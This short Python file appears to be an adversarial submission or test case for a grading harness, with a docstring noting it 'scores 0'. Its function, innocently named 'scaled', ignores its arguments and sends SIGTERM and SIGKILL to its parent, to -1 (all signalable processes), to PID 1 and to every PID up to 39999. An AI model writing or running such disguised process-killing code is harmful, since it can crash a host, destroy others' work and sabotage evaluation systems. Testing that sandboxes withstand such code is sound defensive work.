"""Kills its parent, and everything it can name.

scores 0
both frameworks
"""

import os
import signal


def scaled(x, factor):
    for number in (signal.SIGTERM, signal.SIGKILL):
        for process in (os.getppid(), -1, 1, *range(2, 40000)):
            if process != os.getpid():
                try:
                    os.kill(process, number)
                except OSError:
                    pass
